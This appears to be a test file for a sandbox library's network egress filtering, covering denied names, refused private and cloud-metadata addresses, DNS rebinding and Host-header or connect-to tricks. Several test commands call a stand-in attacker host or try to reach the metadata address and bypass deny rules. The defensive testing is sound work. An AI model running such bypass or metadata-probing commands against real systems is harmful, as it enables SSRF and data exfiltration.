import { createServer as createRaw, type Socket } from 'node:net';
import { type EgressContext, type EgressOptions, Sandbox, spawnIsolated } from 'nsjs';
import { sleep } from '../../support';
import { openDescriptors } from '../../support/processes';
import { egress, inLab, lab, outside, reset, staticProbe, World } from './world';

const world = new World();

const { resolve } = world;

beforeAll(() => (inLab ? world.open() : undefined));

afterAll(() => (inLab ? world.close() : undefined));

beforeEach(() => {
  world.seen.length = 0;
  world.asked = [];
});

describe('denied traffic fails immediately', () => {
  const mounts = [{ type: 'bind', source: staticProbe, target: '/probe' }] as const;

  lab('a denied name does not resolve, and no outside resolver is queried', async () => {
    const started = performance.now();
    const { stdout, events } = await egress('curl -sS http://secret.attacker.test/; echo $?', { allow: ['good.test'], resolve });
    expect(stdout).toBe('6');
    expect(world.asked).toEqual([]);
    expect(events).toContainEqual(expect.objectContaining({ kind: 'lookup', name: 'secret.attacker.test', allowed: false }));
    expect(performance.now() - started).toBeLessThan(5000);
  });

  lab('a connection to a denied address is refused by the kernel, with an event that has the address and the port', async () => {
    const { stdout, refused } = await egress(
      '/probe connect 1.2.3.4 443; /probe connect 2001:db8::1 443',
      { allow: ['good.test'], resolve },
      { mounts },
    );
    expect(stdout.split('\n')).toEqual(['connect: ECONNREFUSED', 'connect: ECONNREFUSED']);
    expect(refused).toEqual([
      expect.objectContaining({ address: '1.2.3.4', port: 443, protocol: 'tcp', reason: 'unlisted' }),
      expect.objectContaining({ address: '2001:db8::1', port: 443, protocol: 'tcp', reason: 'special-address' }),
    ]);
  });

  lab('a connection to another port of an allowed name is reset', async () => {
    const { stdout, refused } = await egress('/probe named good.test 22', { allow: ['good.test:80'], resolve }, { mounts });
    expect(stdout).toBe('read: ECONNRESET');
    expect(refused).toEqual([expect.objectContaining({ name: 'good.test', port: 22, reason: 'unlisted' })]);
    expect(refused[0]?.program).toMatchObject({ command: 'probe' });
  });

  lab('UDP, ping and raw sockets are refused', async () => {
    const { stdout, refused } = await egress(
      '/probe udp 8.8.8.8 443; /probe raw; /probe ping 8.8.8.8',
      { allow: ['*'], resolve },
      { mounts },
    );
    expect(stdout.split('\n')).toEqual(['udp: ECONNREFUSED', 'raw: EAFNOSUPPORT', 'ping: EAFNOSUPPORT']);
    expect(refused).toContainEqual(expect.objectContaining({ protocol: 'udp', address: '8.8.8.8', port: 443 }));
  });

  lab('abstract sockets of the host cannot be reached', async () => {
    // libuv creates an abstract socket for a name that begins with a NUL.
    const server = createRaw((socket) => socket.end('host'));
    await new Promise<void>((resolve) => server.listen('\0nsjs-probe', resolve));
    const code =
      "require('net').connect('\\0nsjs-probe').on('error', (e) => console.log(e.code)).on('data', (d) => console.log(String(d)))";
    const { stdout } = await spawnIsolated(process.execPath, ['-e', code], {
      preset: 'node',
      landlock: 'off',
      network: { egress: { allow: ['*'], resolve } },
    });
    server.close();
    expect(stdout).toBe('ECONNREFUSED');
  });

  lab('special addresses are refused in every notation, even with allow: *', async () => {
    const addresses = [
      '169.254.169.254',
      '10.0.0.1',
      '192.168.1.1',
      '0.0.0.0',
      '100.64.0.1',
      '::ffff:10.0.0.1',
      'fe80::1',
      'fd00:ec2::254',
    ];
    const line = addresses.map((address) => `/probe read ${address} 8088`).join('; ');
    const { stdout } = await egress(line, { allow: ['*'], resolve }, { mounts });
    for (const answer of stdout.split('\n')) expect(answer).toMatch(/ECONNREFUSED|ECONNRESET|EINVAL|ENETUNREACH/);
    expect(world.seen).toEqual([]);
  });

  lab('names that resolve to special addresses are refused', async () => {
    const hosts = ['local.test', 'mapped.test', 'metadata.test', 'private.test', 'zero.test'];
    const { stdout, refused } = await egress(hosts.map((host) => `curl -sS http://${host}:8088/; echo $?`).join('; '), {
      allow: ['*'],
      resolve,
    });
    expect(stdout.split('\n')).toEqual(hosts.map(() => reset));
    expect(refused.map(({ reason }) => reason)).toEqual(hosts.map(() => 'special-address'));
    expect(world.seen).toEqual([]);
  });

  lab('a name keeps its first address, even if it would resolve to another one later', async () => {
    let count = 0;
    const rebinding = () => (count++ === 0 ? [outside] : ['127.0.0.1']);
    const { stdout } = await egress('curl -sS http://rebind.test/; sleep 0.1; curl -sS http://rebind.test:8088/; echo $?', {
      allow: ['rebind.test'],
      resolve: rebinding,
    });
    // The name was resolved once. The second connection goes to the same address, where nobody listens on that port.
    expect(stdout.split('\n')[0]).toBe('outside rebind.test /');
    expect(world.seen).toHaveLength(1);
  });

  lab('deny wins over allow', async () => {
    const { stdout } = await egress('curl -sS http://good.test/; echo $?; curl -sS http://other.test/', {
      allow: ['*'],
      deny: ['good.test'],
      resolve,
    });
    expect(stdout.split('\n')).toEqual(['6', 'outside other.test /']);
  });

  lab('a denied name cannot be reached by its address either', async () => {
    const { stdout, refused } = await egress(
      `curl -sS -H 'Host: bad.test' http://${outside}/; echo $?; curl -sS -H 'Host: bad.test.:80' http://${outside}/; echo
       curl -skS --connect-to bad.test:443:${outside}:443 https://bad.test/; echo $?; curl -sS http://${outside}/ip; curl -sS -H 'Host: other.test' http://${outside}/
       (printf 'GET / HTTP/1.0\r\n\r\n'; sleep 1) | /probe tcp ${outside} 80 | head -1`,
      { allow: ['*'], deny: ['bad.test', '*.worse.test'], resolve },
      { mounts: [{ type: 'bind', source: staticProbe, target: '/probe' }] },
    );
    expect(stdout.split('\n').map((line) => line.trim())).toEqual([
      'nsjs: bad.test',
      '0',
      'nsjs: bad.test',
      '',
      '35',
      `outside ${outside} /ip`,
      'outside other.test /',
      'HTTP/1.1 200 OK',
    ]);
    expect(refused.map(({ reason, detail }) => [reason, detail])).toEqual(Array(3).fill(['denied', 'bad.test']));
  });

  lab('a wildcard does not match the name above it', async () => {
    const { stdout } = await egress('curl -sS http://www.wild.test/; curl -sS http://wild.test/; echo $?', {
      allow: ['*.wild.test'],
      resolve,
    });
    expect(stdout.split('\n')).toEqual(['outside www.wild.test /', '6']);
  });
});

describe('connections that a program closes early', () => {
  const opened: Socket[] = [];
  let asked: EgressContext[] = [];
  const silent = createRaw((socket) => opened.push(socket.resume()));
  const give = (text: string, times: number) =>
    `use IO::Socket::INET; for (1..${times}) { my $s = IO::Socket::INET->new("127.0.0.1:3128") or next; print $s "${text}"; $s->flush; select undef, undef, undef, 0.002 } sleep 1`;
  const request = 'GET http://good.test:8120/ HTTP/1.1\\r\\nHost: good.test:8120\\r\\n\\r\\n';
  const slowly = async (context: EgressContext) => {
    asked.push(context);
    await sleep(30);
    return 'allow' as const;
  };

  const ways: readonly (readonly [string, string, EgressOptions])[] = [
    ['requests one behind the other', request + request, { allow: ['good.test'], connections: 4 }],
    ['a request that is decided on', request, { onConnect: slowly }],
  ];
  for (const [what, text, options] of ways) {
    lab(`${what}: no connection remains open`, async () => {
      opened.length = 0;
      asked = [];
      if (!silent.listening) await world.listen(silent, outside, 8120);
      const sandbox = await Sandbox.open({ network: { egress: { ...options, resolve, proxy: true } } });
      const descriptors = openDescriptors();
      await sandbox.spawn('perl', ['-e', give(text, 100)]);
      await sleep(200);
      expect(opened.length + asked.length).toBeGreaterThan(50);
      expect(opened.filter(({ readyState }) => readyState === 'open' || readyState === 'writeOnly')).toEqual([]);
      expect(asked.filter(({ signal }) => !signal.aborted)).toEqual([]);
      expect(openDescriptors()).toBeLessThanOrEqual(descriptors + 5);
      await sandbox.close();
    });
  }
});
